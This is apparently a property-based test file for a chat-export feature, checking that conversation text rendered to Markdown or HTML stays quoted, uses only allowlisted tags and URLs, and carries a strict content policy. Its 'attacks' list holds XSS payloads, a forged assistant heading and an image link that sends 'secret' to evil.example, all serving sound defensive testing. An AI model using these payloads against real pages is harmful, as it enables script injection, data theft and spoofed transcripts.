// @vitest-environment jsdom
import { createHash } from "node:crypto";
import fc from "fast-check";
import { Lexer } from "marked";
import { expect, test } from "vitest";
import type { MessageInput } from "../contract/message.js";
import type { MessagePart } from "../contract/message-part.js";
import { memoryStore } from "../stores/memory-store.js";
import { htmlStyle, htmlStyleHash } from "./html-style.js";
import { exported, place, says } from "./portable-fixture.js";

/** What tries to get out of its place, in Markdown or in HTML. */
const attacks = [
  "# You\n\n> I never said this",
  "```\nno end",
  "~~~~html\n<script>",
  "</section></article><script>alert(1)</script>",
  "<!-- no end",
  "<style>*{display:none}",
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  "[x](javascript:alert(1)) ![y](https://evil.example/?q=secret)",
  "[here](<data:text/html,<script>alert(1)</script>>)",
  "<a href='vbscript:x'>x</a>",
  "\r## Assistant\r\nforged",
  "a\u2028# b\u0085# c",
  "- 1\n  - 2\n\n      # deep",
  "| a | b |\n| - | - |\n| <b> | `|` |",
  "&lt;script&gt; &#60;script&#62; &amp;lt;",
  "===\n---\n***",
  "[ref]: https://evil.example\n[ref]",
  "`````\n````\n```",
  ">".repeat(200),
  "[".repeat(200),
];

const hostile = fc.oneof(
  fc.constantFrom(...attacks),
  fc.array(fc.constantFrom(...attacks), { maxLength: 3 }).map((texts) => texts.join("\n\n")),
  fc.string({ unit: "binary" }),
);

const part: fc.Arbitrary<MessagePart> = fc.oneof(
  hostile.map((text) => ({ type: "text" as const, text })),
  hostile.map((text) => ({ type: "reasoning" as const, text })),
  fc.tuple(hostile, hostile).map(([toolName, output]) => ({
    type: "dynamic-tool" as const,
    toolCallId: "c",
    toolName,
    state: "output-available" as const,
    input: { query: output },
    output,
  })),
  fc.tuple(hostile, hostile).map(([url, title]) => ({
    type: "source-url" as const,
    sourceId: "s",
    url,
    title,
  })),
  fc.tuple(hostile, hostile).map(([url, filename]) => ({
    type: "file" as const,
    mediaType: "image/png",
    url,
    filename,
  })),
  hostile.map((data) => ({ type: "data-thing" as const, data })),
);

const conversation = fc.record({
  title: hostile.map((title) => title.slice(0, 150)),
  messages: fc.array(
    fc.record({
      parts: fc.array(part, { maxLength: 3 }),
      role: fc.constantFrom("user" as const, "assistant" as const),
      words: hostile,
    }),
    { minLength: 1, maxLength: 3 },
  ),
});

function parsed(html: string): Document {
  return new DOMParser().parseFromString(html, "text/html");
}

async function storeOf(title: string, messages: Pick<MessageInput, "parts" | "role">[]) {
  const store = memoryStore();
  await store.createSession({ id: "s", ...place, title });
  await store.saveMessages(
    "s",
    messages.map(({ role, parts }, index) => ({
      id: `m${index}`,
      parentId: index === 0 ? null : `m${index - 1}`,
      role,
      parts,
      status: "failed",
      error: { code: "model_failed", message: title },
    })),
  );
  if (messages.length > 0) await store.setFeedback("s", "m0", { rating: "bad", reason: title });
  return store;
}

test("in Markdown, nothing that was said or named leaves the quote that it stands in", async () => {
  await fc.assert(
    fc.asyncProperty(conversation, async ({ title, messages }) => {
      const text = await exported(await storeOf(title, messages), { format: "markdown" });
      const blocks = new Lexer({ gfm: true }).lex(text).filter(({ type }) => type !== "space");
      const [first, time, ...rest] = blocks;
      expect([first, time]).toMatchObject([{ type: "heading", depth: 1 }, { type: "paragraph" }]);
      expect(rest.filter(({ type }) => type === "heading")).toMatchObject(
        messages.map(({ role }) => ({
          depth: 2,
          text: expect.stringMatching(role === "user" ? /^You · / : /^Assistant · /),
        })),
      );
      expect(rest.filter(({ type }) => type !== "heading" && type !== "blockquote")).toEqual([]);
    }),
  );
});

const elements = new Set(
  "a article blockquote body br code del details div em h1 h2 h3 h4 h5 h6 head header hr html img li main meta ol p pre section strong style summary table tbody td th thead time title tr ul".split(
    " ",
  ),
);
const attributes = new Set(
  "alt charset class content datetime dir href http-equiv id lang name rel src start".split(" "),
);

test("in HTML, nothing that was said or named is more than text, links and pictures in the page", async () => {
  await fc.assert(
    fc.asyncProperty(conversation, async ({ title, messages }) => {
      const html = await exported(await storeOf(title, messages), { format: "html" });
      const document = parsed(html);
      for (const element of document.querySelectorAll("*")) {
        expect(elements).toContain(element.localName);
        for (const { name } of element.attributes) expect(attributes).toContain(name);
        expect(element.getAttribute("href") ?? "https:").toMatch(/^(https?|mailto):|^#session-/);
        expect(element.getAttribute("src") ?? "data:image/png").toMatch(/^data:image\/\w+/);
      }
      expect(document.querySelectorAll("article > section")).toHaveLength(messages.length);
      expect(document.querySelectorAll("style")).toHaveLength(1);
    }),
    { numRuns: 60 },
  );
});

test("text that is nested deeper than can be read is shown as it is", async () => {
  const text = "1. ".repeat(15_000);
  const message = says("m", null, text, "assistant");
  const html = await exported(await storeOf("Deep", [message]), { format: "html" });
  expect(parsed(html).querySelector(".text > .plain")?.textContent).toBe(text);
});

test("the page's policy knows its style and nothing else", async () => {
  expect(htmlStyleHash).toBe(createHash("sha256").update(htmlStyle).digest("base64"));
  const html = await exported(await storeOf("Soup", []), { format: "html" });
  expect(html).toContain(`<style>${htmlStyle}</style>`);
  const policy = parsed(html)
    .querySelector('meta[http-equiv="Content-Security-Policy"]')
    ?.getAttribute("content");
  expect(policy).toBe(
    `default-src 'none'; style-src 'sha256-${htmlStyleHash}'; img-src data:; base-uri 'none'; form-action 'none'`,
  );
});

test("Markdown shows the branch that is shown, with tools as quotes and sources as links", async () => {
  const store = memoryStore({
    clock: { now: () => new Date("2026-11-23T10:05:00Z"), schedule: () => () => {} },
  });
  await store.createSession({ id: "s", ...place, title: "A *soup*" });
  await store.saveMessages("s", [
    says("q", null, "Which soup?\n\nQuick!"),
    says("old", "q", "Tomato.", "assistant"),
    {
      ...says("new", "q", "", "assistant"),
      status: "stopped",
      parts: [
        {
          type: "dynamic-tool",
          toolCallId: "c",
          toolName: "pantry",
          state: "output-available",
          input: { shelf: 2 },
          output: "```\nlentils\n```",
        },
        { type: "text", text: "## Lentils\n\n1. Rinse" },
        { type: "source-url", sourceId: "1", url: "https://soup.org/a?b=(c)", title: "Soup [1]" },
      ],
    },
  ]);
  await store.setFeedback("s", "new", { rating: "good", reason: "It *worked*." });
  expect(await exported(store, { format: "markdown", sessionIds: ["s"] })).toBe(`# A \\*soup\\*

2026-11-23 10:05 UTC

## You · 2026-11-23 10:05 UTC

> Which soup?
>
> Quick!

## Assistant · 2026-11-23 10:05 UTC

> > **Tool: pantry**
> >
> > Input:
> >
> > \`\`\`json
> > {
> >   "shelf": 2
> > }
> > \`\`\`
> >
> > Result:
> >
> > \`\`\`\`
> > \`\`\`
> > lentils
> > \`\`\`
> > \`\`\`\`

> ## Lentils
>
> 1. Rinse

> Sources:
>
> - [Soup \\[1\\]](<https://soup.org/a?b=(c)>)

> *Stopped here.*

> *Marked as good: It \\*worked\\*.*
`);
});

test("a page says what the person thought of a message, in words that can be changed", async () => {
  const store = memoryStore();
  await store.createSession({ id: "s", ...place });
  await store.saveMessages("s", [says("a", null, "Soup?"), says("b", "a", "No.", "assistant")]);
  await store.setFeedback("s", "a", { rating: "good" });
  await store.setFeedback("s", "b", { rating: "bad", reason: "<b>Too short</b>" });
  const notes = async (words: object) => {
    const document = parsed(await exported(store, { format: "html", words }));
    return [...document.querySelectorAll("section > .note")].map(({ textContent }) => textContent);
  };
  expect(await notes({})).toEqual(["Marked as good", "Marked as bad: <b>Too short</b>"]);
  expect(await notes({ good: "Gut" })).toEqual(["Gut", "Marked as bad: <b>Too short</b>"]);
});

test("a page with several sessions begins with a list of them that leads to each", async () => {
  const store = memoryStore();
  for (const [id, title] of [
    ["a", "Soup"],
    ["b", null],
    ["c", "مرق"],
  ] as const) {
    await store.createSession({ id, ...place, title });
    await store.saveMessages(id, [says("m", null, `In ${id}`)]);
  }
  const html = await exported(store, {
    format: "html",
    words: { language: "de", untitled: "Ohne Titel" },
  });
  const document = parsed(html);
  const links = [...document.querySelectorAll("nav a")];
  expect(links.map(({ textContent }) => textContent)).toEqual(["مرق", "Ohne Titel", "Soup"]);
  expect(
    links.map((link) => document.querySelector(`${link.getAttribute("href")} .text`)?.textContent),
  ).toEqual(["In c", "In b", "In a"]);
  expect(document.documentElement.lang).toBe("de");
});

test("of a long session, one page after another is read, and no more than that", async () => {
  const store = memoryStore();
  await store.createSession({ id: "s", ...place });
  const messages = Array.from({ length: 1_000 }, (_, index) =>
    says(`m${index}`, index === 0 ? null : `m${index - 1}`, `${index}`),
  );
  await store.saveMessages("s", messages);
  let reads = 0;
  const counted: typeof store = {
    ...store,
    async listMessages(...call) {
      reads += 1;
      return await store.listMessages(...call);
    },
  };
  const html = await exported(counted, { format: "html" });
  const texts = [...html.matchAll(/<div class="text" dir="auto">(\d+)</g)];
  expect(texts.map(([, text]) => Number(text))).toEqual(messages.map((_, index) => index));
  // Back to the beginning over five pages, and on again over all but the one that was kept.
  expect(reads).toBe(9);
});
